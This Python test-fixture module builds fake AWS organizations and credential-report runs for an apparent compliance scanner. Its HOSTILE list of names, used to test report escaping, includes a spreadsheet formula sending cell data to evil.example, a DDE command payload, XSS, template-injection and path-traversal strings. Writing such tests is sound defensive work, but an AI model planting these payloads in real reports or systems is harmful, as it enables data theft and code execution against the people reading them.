"""
Finished runs for the tests of documents: judged by the real checks, written as a scan would leave them.
"""

from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from scanner.confirmation import LiveState
from scanner.credentials import REPORT_COLUMNS, ReportRows, build_table
from scanner.evidence import StoredRun
from scanner.evidence.store import write_file
from scanner.evidence.tables import (
    ACCOUNTS,
    CONTROLS,
    FINDINGS,
    open_table,
    users_schema,
    write_table,
)
from scanner.frameworks import Framework, bind_checks, load_framework
from scanner.judge import Tally, judge_controls, judge_table, list_findings, name_controls
from scanner.model import (
    ROOT_USER,
    Account,
    AccountId,
    AccountTotals,
    Confirmation,
    Selection,
    Summary,
    Window,
)
from scanner.records import encode

STARTED = datetime(2026, 11, 24, 10, 15, tzinfo=UTC)
FINISHED = datetime(2026, 11, 24, 10, 27, 31, tzinfo=UTC)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)>",
    '</td></tr></table><script>alert(1)</script><style>*{display:none}</style>"',
    "{{7*7}}{% for x in y %}${7*7}#{7*7}",
    "payments\u202egpj.exe \u200f\u2066mark",
    "line one\r\nline two\ttab\x00nul\x1b[31mred\x7f",
    "../../../../etc/passwd",
    "-1+1",
    "#N/A",
    "_x003D_1+1 _x202E_exe",
    "\u05d7\u05e9\u05d1\u05d5\u05df \u0627\u0644\u062f\u0641\u0639 \u652f\u6255\u3044",
    "W" * 128,
    "&lt;already&amp;escaped&gt; <!-- comment --> <![CDATA[x]]>",
    '"><link rel=attachment href=file:///etc/passwd>',
    "\uff1dcmd()",
    "z" + "\u0301\u0323" * 40,
)


@dataclass(frozen=True)
class Person:
    """
    One row of a credential report, in the report's own words.
    """

    name: str
    password: str = "true"
    mfa: str = "true"
    key: str = "false"
    path: str = "/"
    live: LiveState | None = None


ROOT = Person(ROOT_USER, password="false", mfa="false")
OPEN = LiveState(Confirmation.STILL_OPEN, None, "team-payments@example.com")
FIXED = LiveState(Confirmation.FIXED_SINCE_REPORT, "virtual device since 2026-11-24", None)


@dataclass(frozen=True)
class Listed:
    """
    One listed account: its people when it was collected, else why it was not.
    """

    id: str
    name: str
    ou: tuple[str, ...] = ("Root", "Workloads")
    people: tuple[Person, ...] | None = ()
    root: Person = ROOT
    outcome: str = "collected"
    reason_code: str | None = None
    reason: str | None = None
    state: str = "ACTIVE"

    def arn(self, person: Person) -> str:
        """
        Return a person's ARN.
        """
        tail = "root" if person.name == ROOT_USER else f"user{person.path}{person.name}"
        return f"arn:aws:iam::{self.id}:{tail}"


def missed(id: str, name: str, code: str = "access-denied") -> Listed:  # noqa: A002
    """
    Return an account that could not be read.
    """
    reason = (
        f"account {id} ({name}): the role orgproof-reader cannot be assumed (AccessDenied); "
        "create it there or pass --role-name"
    )
    return Listed(id, name, people=None, outcome="not-collected", reason_code=code, reason=reason)


def ordinary() -> list[Listed]:
    """
    Return an organization with an account of every outcome and findings of every kind.
    """
    return [
        Listed("000000000017", "management", ("Root",), (Person("ada"), Person("break-glass"))),
        Listed(
            "012345678901",
            "payments-prod",
            ("Root", "Workloads", "Production"),
            (
                Person("alice", mfa="false", key="true", live=OPEN),
                Person("bob", mfa="false", live=FIXED),
                Person("carol"),
                Person("ci-deploy", password="false", mfa="false", key="true"),
                Person("odd", password="perhaps", mfa="false"),
            ),
            root=Person(ROOT_USER, password="true", mfa="false", key="true"),
        ),
        Listed(
            "111111111111",
            "data-lake",
            ("Root", "Workloads", "Production", "Analytics"),
            (Person("dora"), Person("erin", mfa="false", path="/division/team/")),
            root=Person(ROOT_USER, password="not_supported", mfa="true"),
        ),
        Listed("222222222222", "sandbox", ("Root", "Sandbox"), ()),
        Listed(
            "333333333333",
            "left-out",
            people=None,
            outcome="excluded",
            reason_code="excluded",
            reason="account 333333333333 (left-out): excluded by the settings: run by a partner",
        ),
        Listed(
            "444444444444",
            "closed",
            people=None,
            outcome="not-active",
            reason_code="not-active",
            reason="account 444444444444 (closed): its state is SUSPENDED, and only ACTIVE accounts can be read",
            state="SUSPENDED",
        ),
    ]


def hostile() -> list[Listed]:
    """
    Return accounts, OUs and users that are all named to do harm.
    """
    accounts = [
        Listed(
            f"{500000000000 + number}",
            name,
            ("Root", name, HOSTILE[-number - 1]),
            (
                Person(name, mfa="false", live=OPEN),
                Person(
                    f"x{number}",
                    mfa="false",
                    path=f"/{name}/",
                    live=LiveState(Confirmation.NOT_CHECKED, name, name),
                ),
            ),
        )
        for number, name in enumerate(HOSTILE)
    ]
    return [*accounts, *(missed(f"{600000000000 + n}", name) for n, name in enumerate(HOSTILE))]


def clean() -> list[Listed]:
    """
    Return an organization without exceptions in which every account was read.
    """
    return [
        Listed("000000000017", "management", ("Root",), (Person("ada"),)),
        Listed("012345678901", "payments-prod", people=(Person("carol"), Person("dave"))),
    ]


def large(accounts: int, users: int, findings: int) -> list[Listed]:
    """
    Return many accounts with `users` users in all, of whom about `findings` lack a device.
    """
    each, every = users // accounts, max(1, users // max(findings, 1))
    return [
        Listed(
            f"{100000000000 + number}",
            f"workload-{number:05}",
            ("Root", "Workloads", f"Unit {number % 40:02}"),
            tuple(
                Person(f"user-{serial:06}", mfa="false" if serial % every == 0 else "true")
                for serial in range(number * each, (number + 1) * each)
            ),
        )
        for number in range(accounts)
    ]


def write_run(
    folder: Path,
    accounts: Sequence[Listed],
    frameworks: Sequence[str] = ("pci-dss-4.0.1", "iso-27001-2022"),
    **changes: Any,
) -> StoredRun:
    """
    Write a finished run and open it. `changes` replaces fields of the summary.
    """
    catalogs = [load_framework(name) for name in frameworks]
    checks = bind_checks(catalogs)
    listed = sorted(accounts, key=lambda account: account.id)
    read = [account for account in listed if account.people is not None]
    table = judge_table(build_table([_report(account) for account in read]), checks)
    tally = Tally(checks)
    if read:
        tally.add(table)
    findings = list_findings(
        table,
        checks,
        {AccountId(a.id): _account(a) for a in listed},
        _live(read),
        name_controls(catalogs),
    )
    outcomes = Counter(account.outcome for account in listed)
    tables = folder / "tables"
    write_table(tables / "accounts.parquet", ACCOUNTS, [_row(account) for account in listed])
    with open_table(tables / "users.parquet", users_schema([c.name for c in checks])) as writer:
        if read:
            writer.write(table)
    write_table(tables / "findings.parquet", FINDINGS, findings)
    controls = judge_controls(catalogs, tally.checks(), outcomes["not-collected"])
    write_table(tables / "controls.parquet", CONTROLS, controls)
    for catalog in catalogs:
        write_file(folder / "inputs" / "frameworks" / f"{catalog.id}.yaml", catalog.source)
    summary = _summarise(listed, findings, tally, catalogs)
    write_file(folder / "summary.json", encode(replace(summary, **changes)))
    write_file(folder / "manifest.json", b'{"format": 1}\n')
    return StoredRun(folder)


def _report(account: Listed) -> ReportRows:
    people = sorted((account.root, *(account.people or ())), key=account.arn)
    rows = [_line(account, person) for person in people]
    return ReportRows(AccountId(account.id), _generated(account), rows, [None] * len(rows))


def _line(account: Listed, person: Person) -> list[str]:
    values = dict.fromkeys(REPORT_COLUMNS, "N/A") | {
        "user": person.name,
        "arn": account.arn(person),
        "user_creation_time": "2021-03-04T05:06:07Z",
        "password_enabled": person.password,
        "password_last_used": "2026-10-01T08:09:10Z" if person.password == "true" else "N/A",
        "mfa_active": person.mfa,
        "access_key_1_active": person.key,
        "access_key_1_last_rotated": "2024-01-02T03:04:05Z" if person.key == "true" else "N/A",
        "access_key_2_active": "false",
        "cert_1_active": "false",
        "cert_2_active": "false",
    }
    return [values[name] for name in REPORT_COLUMNS]


def _generated(account: Listed) -> datetime:
    return STARTED - timedelta(minutes=int(account.id) % 200)


def _account(account: Listed) -> Account:
    return Account(
        AccountId(account.id), account.name, "x@example.com", account.state, (), account.ou
    )


def _live(read: Sequence[Listed]) -> Mapping[str, LiveState]:
    return {
        account.arn(person): person.live
        for account in read
        for person in account.people or ()
        if person.live
    }


def _row(account: Listed) -> dict[str, Any]:
    row: dict[str, Any] = {
        "account_id": account.id,
        "name": account.name,
        "email": f"{account.id}@example.com",
        "state": account.state,
        "ou_ids": "r-ab12; ou-ab12-11111111",
        "ou_path": _account(account).ou_path,
        "outcome": account.outcome,
        "reason_code": account.reason_code,
        "reason": account.reason,
    }
    if account.people is not None:
        row |= {
            "generated_time": _generated(account),
            "report_age_seconds": int((STARTED - _generated(account)).total_seconds()) + 95,
            "report_sha256": "ab" * 32,
            "users": len(account.people),
            "iam_users": len(account.people),
        }
    return row


def _summarise(
    listed: Sequence[Listed],
    findings: Sequence[Mapping[str, Any]],
    tally: Tally,
    catalogs: Sequence[Framework],
) -> Summary:
    outcomes = Counter(account.outcome for account in listed)
    generated = [_generated(account) for account in listed if account.people is not None]
    return Summary(
        run_id="20261124T101500Z",
        period="2026-Q4",
        organization_id="o-a1b2c3d4e5",
        management_account_id=AccountId("000000000017"),
        partition="aws",
        caller_arn="arn:aws:sts::000000000017:assumed-role/orgproof-scanner/quarterly",
        role_name="orgproof-reader",
        endpoint=None,
        simulated=False,
        interrupted=False,
        tool_version="0.1.0",
        prepared_by="Cloud Security",
        organization_name="Example Payments Ltd",
        selection=Selection(),
        window=Window(
            STARTED, FINISHED, min(generated, default=None), max(generated, default=None)
        ),
        accounts=AccountTotals(
            len(listed),
            outcomes["collected"],
            outcomes["not-collected"],
            outcomes["excluded"],
            outcomes["not-active"],
        ),
        reasons=Counter(str(a.reason_code) for a in listed if a.outcome == "not-collected"),
        users=tally.users(),
        checks=tally.checks(),
        findings=len(findings),
        findings_by_verdict=Counter(row["verdict"] for row in findings),
        findings_by_confirmation=Counter(row["confirmation"] for row in findings),
        frameworks=tuple(catalog.ref for catalog in catalogs),
        exit_status=0,
    )
